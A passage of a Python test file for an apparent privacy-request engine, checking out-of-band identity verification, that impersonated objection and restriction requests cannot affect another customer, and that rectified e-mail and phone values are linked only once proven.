        verify_out_of_band(conn, request.id, "ID card and e-mail shown in store", actor="agent:marie",
                           identities=["email"])
    new_values_checked(shop, request.id, "email")
    assert run(shop.store, request.id, shop.deployment).status == "completed"
    with shop.deployment.engines["crm"].connect() as conn:
        assert conn.execute(sa.text("SELECT email FROM contacts WHERE id = 1")).scalar() == "eve@example.org"


def test_an_agent_names_the_identities_checked_out_of_band(shop: Shop) -> None:
    with shop.store.begin() as conn:
        request = submit(conn, "access", {"email": "bob@example.org", "customer_id": "C-0001"})
        with pytest.raises(GardeError, match="names no identity"):
            verify_out_of_band(conn, request.id, "ID card", actor="agent:marie", identities=[])
        with pytest.raises(GardeError, match="loyalty_card"):
            verify_out_of_band(conn, request.id, "ID card", actor="agent:marie", identities=["loyalty_card"])
        checked = verify_out_of_band(conn, request.id, "customer card shown in store", actor="agent:marie",
                                     identities=["customer_id"])
    assert checked.proofs["customer_id"]["method"] == "out_of_band"
    assert checked.proofs["customer_id"]["by"] == "agent:marie"
    assert "email" not in checked.proofs
    done = run(shop.store, request.id, shop.deployment)
    assert done.result is not None and done.result["identities"] == {
        "customer_id": "proven out of band", "email": "not proven, not used"}
    answer = (shop.deployment.results / request.id / "access.json").read_text()
    assert "Ana Lima" in answer and "Bob Stone" not in answer


def test_objection_and_restriction_with_someone_elses_identity_do_not_reach_them(shop: Shop,
                                                                                 tmp_path: Path) -> None:
    ana = verified(shop, "access", {"email": "ana@example.org", "customer_id": "C-0001"})
    run(shop.store, ana, shop.deployment)  # Ana is a known subject, her customer number linked to her
    with shop.store.begin() as conn:
        ana_subject = get_request(conn, ana).subject_id
    objection = attacker_request(shop, tmp_path, "objection", {"phone": "+33699999999"})
    run(shop.store, objection, shop.deployment)
    restriction = attacker_request(shop, tmp_path / "again", "restriction", {"customer_id": "C-0001"})
    done = run(shop.store, restriction, shop.deployment)
    with shop.store.begin() as conn:
        assert not is_suppressed(conn, {"phone": "+33699999999"})  # Ana's phone: still reachable
        assert is_suppressed(conn, {"email": "bob@example.org"})
        assert subject_state(conn, ana_subject or "") == "active"
        assert done.subject_id != ana_subject and subject_state(conn, done.subject_id or "") == "restricted"


# --- A rectified identity's new value is not the subject's until proven (red team, 2026-12-06) ---


def test_a_proven_new_identity_from_a_rectification_takes_the_old_ones_place(shop: Shop) -> None:
    """Ana proves her e-mail and rectifies it to an address garde does not know yet. The shop's rows
    change once the new value is proven for this request (here an agent's check;
    tests/test_rectification_new_identity.py for the code), as strong as a sign-in with it: the engine
    links it to Ana in place of the old address, which her rows no longer hold and whoever holds it
    next must not open her records with (tests/test_rectification_recycled.py). Her refusals follow
    it: she objected to direct marketing, so it is suppressed too."""
    objection = verified(shop, "objection", {"email": "ana@example.org"})
    assert run(shop.store, objection, shop.deployment).status == "completed"
    request_id = verified(shop, "rectification", {"email": "ana@example.org"},
                          corrections={"contact.email": "zoe@example.net"})
    new_values_checked(shop, request_id, "email")
    done = run(shop.store, request_id, shop.deployment)
    assert done.status == "completed" and done.result is not None
    assert done.result["new_identities"] == {"email": LINKED}
    with shop.deployment.engines["shop"].connect() as conn:
        assert conn.execute(sa.text("SELECT email FROM customers WHERE id = 1")).scalar() == "zoe@example.net"
    with shop.store.connect() as conn:
        assert find_subject(conn, {"email": "zoe@example.net"}) == get_request(conn, request_id).subject_id
        assert find_subject(conn, {"email": "ana@example.org"}) is None
        assert is_suppressed(conn, {"email": "zoe@example.net"})


def test_a_new_identity_carries_no_refusal_the_subject_did_not_make(shop: Shop) -> None:
    """Ana objected to nothing: the new phone, linked to her, is not suppressed."""
    proven = {"email": "ana@example.org", "phone": "+33699999999"}
    request_id = verified(shop, "rectification", proven, corrections={"contact.phone": "+33611111111"})
    new_values_checked(shop, request_id, "phone")
    done = run(shop.store, request_id, shop.deployment)
    assert done.result is not None
    assert done.result["new_identities"] == {"phone": LINKED}
    with shop.store.connect() as conn:
        assert find_subject(conn, {"phone": "+33611111111"}) == get_request(conn, request_id).subject_id
        assert find_subject(conn, {"phone": "+33699999999"}) is None
        assert not is_suppressed(conn, {"phone": "+33611111111"})
